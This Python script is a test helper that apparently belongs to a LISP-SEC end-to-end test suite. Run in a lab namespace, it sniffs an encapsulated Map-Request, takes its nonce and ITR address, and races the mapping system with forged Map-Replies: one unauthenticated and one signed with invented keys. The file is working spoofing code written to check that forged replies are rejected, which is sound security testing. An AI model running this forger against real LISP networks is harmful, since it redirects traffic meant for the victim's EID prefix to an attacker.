"""An attacker on the underlay (run inside the lab's router namespace by
tests/e2e/test_lispsec.py): it watches forwarded traffic for one ECM'd
Map-Request to the Map-Resolver, learns its nonce, ITR-RLOC and port, and
races the mapping system with forged Map-Replies claiming the requested
prefix for its own RLOC: one without authentication data, one with LISP-SEC
data under keys it made up. Prints "ready" once listening and "forged NONCE"
when done; exits after one request (or after its timeout).

usage: lispsec_forger.py MR_ADDR EID_PREFIX EVIL_RLOC TIMEOUT_S
"""
from __future__ import annotations

import ipaddress
import select
import socket
import struct
import sys
import time

from lispctl.mapping.types import EidPrefix
from lispctl.wire import EncapsulatedControlMessage, LocatorRecord, MapReply, MapRequest, decode_control, eid_record
from lispctl.wire import lispsec as ls

ETH_P_IP = 0x0800


def main() -> int:
    mr, prefix, evil, timeout = sys.argv[1], EidPrefix.parse(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print("ready", flush=True)
    deadline = time.monotonic() + timeout
    mr_packed = ipaddress.ip_address(mr).packed
    while (left := deadline - time.monotonic()) > 0:
        if not select.select([sniff], [], [], left)[0]:
            break
        pkt = sniff.recv(65535)
        if len(pkt) < 28 or pkt[9] != 17 or pkt[16:20] != mr_packed:
            continue
        ihl = (pkt[0] & 0xF) * 4
        if struct.unpack_from("!H", pkt, ihl + 2)[0] != 4342:
            continue
        try:
            ecm = decode_control(pkt[ihl + 8:])
        except ValueError:
            continue
        if not (isinstance(ecm, EncapsulatedControlMessage) and isinstance(ecm.message, MapRequest)):
            continue
        req = ecm.message
        itr = next(a for a in req.itr_rlocs if isinstance(a, ipaddress.IPv4Address))
        loc = LocatorRecord(ipaddress.ip_address(evil), 1, 100, 255, 0, False, False, True)
        forged = MapReply(req.nonce, (eid_record(prefix, (loc,), ttl=1440),))
        fake_otk = bytes(16)
        ead = ls.eid_ad_signed(ls.EidAd(2, 0, (ls.EidAdPrefix(prefix.prefix.network_address,
                                                               prefix.prefix.prefixlen),)), 2, fake_otk)
        signed = ls.sign_map_reply(forged.encode(), ead, 2, ls.derive_ms_otk(2, fake_otk))
        for payload in (forged.encode(), signed):
            out.sendto(payload, (str(itr), ecm.inner_sport))
        print(f"forged {req.nonce:#018x} to {itr}:{ecm.inner_sport}", flush=True)
        return 0
    print("no Map-Request seen", flush=True)
    return 1


if __name__ == "__main__":
    sys.exit(main())
